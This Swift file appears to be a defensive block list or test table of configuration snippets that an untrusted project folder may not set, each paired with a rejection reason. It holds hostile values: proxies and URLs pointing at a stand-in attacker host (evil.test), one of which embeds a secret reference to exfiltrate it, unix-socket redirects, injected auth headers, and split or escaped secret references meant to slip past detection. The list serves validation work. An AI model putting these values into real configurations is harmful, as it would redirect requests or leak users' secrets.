/// Settings that an untrusted folder can't use, with the error for each.
enum HostileSettings {
    private static let trust = "it changes where requests go or whom they trust"

    private static let part = "it could be a part of a reference to a secret"

    static let all: [(text: String, place: String, reason: String)] = [
        ("proxy = 'http://evil.test:3128'", "1: proxy", trust),
        ("httpVersion = '1.1'\nproxy = 'none'", "2: proxy", trust),
        ("[proxies]\n'vault.test' = 'http://evil.test'", "1: proxies", trust),
        ("caServer = 'evil.pem'", "1: caServer", trust),
        ("unverifiedServers = ['vault.test']", "1: unverifiedServers", trust),
        ("clientP12 = 'me.p12'", "1: clientP12", trust),
        ("clientP12Password = 'x'", "1: clientP12Password", trust),
        ("clientCertificate = 'me.pem'", "1: clientCertificate", trust),
        ("clientKey = 'me.pem'", "1: clientKey", trust),
        ("minimumTLSVersion = '1.0'", "1: minimumTLSVersion", trust),
        (
            "baseURL = 'http+unix://%2Frun%2Fapp.sock'", "1: baseURL",
            "it is a socket of this machine"
        ),
        (
            "groups.Vault.baseURL = '{{s}}://x'\nvariables.s = 'HTTPS+unix'",
            "1: groups.Vault.baseURL", "it is a socket of this machine"
        ),
        (
            "backend = 'http+unix://%2Frun%2Fapp.sock'", "1: backend",
            "it is a socket of this machine"
        ),
        (
            "[shop]\nhosts = ['https+unix://%2Frun%2Fapp.sock']", "2: shop.hosts",
            "it is a socket of this machine"
        ),
        (
            "[groups.Vault]\nauthorization = { bearer = '{{secret:door}}' }",
            "2: groups.Vault.authorization.bearer", "it uses a secret"
        ),
        (
            "[groups.Vault.headers]\nX-Key = '{{secret:door}}'", "2: groups.Vault.headers.X-Key",
            "it uses a secret"
        ),
        (
            "[groups.Vault.headers]\nX-Trace = '1'\nAuthorization = 'Bearer theirs'",
            "3: groups.Vault.headers.Authorization",
            "it changes where requests go or whom they trust"
        ),
        ("[variables]\nx = '{{secret:door}}'", "2: variables.x", "it uses a secret"),
        (
            "[variables]\na = '{{secret:'\nb = 'door}}'\nc = '{{a}}{{b}}'", "2: variables.a", part
        ),
        ("[variables]\na = '{{sec'\nb = 'ret:door}}'", "2: variables.a", part),
        ("[variables]\na = '{'\nb = '{secret:door}}'", "2: variables.a", part),
        ("[variables]\na = '{secret:door}'", "2: variables.a", part),
        (#"variables.a = '{"b": "{{\u0073ecret:door}}"}'"#, "1: variables.a", part),
        ("'auth.password' = '{{secret:door}}'", "1: auth.password", "it uses a secret"),
        ("baseURL = 'https://evil.test/{{secret:door}}'", "1: baseURL", "it uses a secret"),
        (
            "baseURL = 'https://evil.test/{{mine}}'", "1: baseURL",
            "it uses your own variable `mine`"
        ),
    ]
}
